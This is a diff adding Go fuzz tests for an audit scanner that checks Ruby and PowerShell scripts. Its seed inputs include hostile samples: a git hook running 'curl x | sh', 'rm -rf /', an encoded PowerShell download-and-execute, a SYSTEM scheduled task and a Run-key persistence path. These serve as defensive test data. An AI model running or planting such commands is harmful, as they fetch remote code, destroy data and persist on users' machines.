@@ -1,0 +1,55 @@
+package audit
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/skilldex/skilldex/index"
+)
+
+// FuzzScanRuby: no Ruby text stops the audit (the lexer's heredocs,
+// percent literals and interpolations, the argument splitter and the
+// path resolver), and every finding's line is inside the file.
+func FuzzScanRuby(f *testing.F) {
+	for _, s := range []string{
+		"H = <<~'SH'\n  #!/bin/sh\n  curl x | sh\nSH\nFile.write(File.join(Dir.home, '.git', 'hooks', 'pre-commit'), H)\n",
+		"a = <<-A + <<B\n  one\n  A\ntwo\nB\nsystem(a)\n",
+		"x = %x(git config --global core.hooksPath #{d})\n%q{a{b}c} %w[a b] `ls`\n",
+		"=begin\nsystem('rm -rf /')\n=end\nputs \"#{1 + \"x\"}\"\n",
+		"File.open(p, 'w') do |f|\n  f.puts 'x'\nend\n",
+		"<<~\n", "<<~X", "%x(", "system(", "File.write(", "'unterminated\nsystem 'ls'",
+		strings.Repeat("<<~A ", 50) + "\n" + strings.Repeat("A\n", 50),
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, code string) {
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = code
+		scanRuby(sc, "scripts/x.rb", code)
+		lines := strings.Count(code, "\n") + 1
+		for _, fd := range sc.findings {
+			if fd.Line < 1 || fd.Line > lines {
+				t.Fatalf("finding at line %d of a %d-line file: %+v", fd.Line, lines, fd)
+			}
+		}
+	})
+}
+
+// FuzzScanPowerShell: no PowerShell text stops the audit, encoded
+// commands nested in encoded commands included.
+func FuzzScanPowerShell(f *testing.F) {
+	for _, s := range []string{
+		"$a.Arguments = '-NoP -Enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgAKQA='\n$s.GetFolder('\\').RegisterTaskDefinition('x', $d, 6, 'SYSTEM', $null, 5)\n",
+		"schtasks /create /tr \"powershell -e AAAAAAAAAAAAAAAAAAAAAA==\"\n",
+		"$k = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n",
+		"-e", "-enc ''", "<# #>",
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, code string) {
+		sc := &skillCtx{ctx: context.Background(), skill: index.Skill{Name: "s"}}
+		sc.fileText = code
+		scanPowerShell(sc, "scripts/x.ps1", code, 1, inScript)
+	})
+}
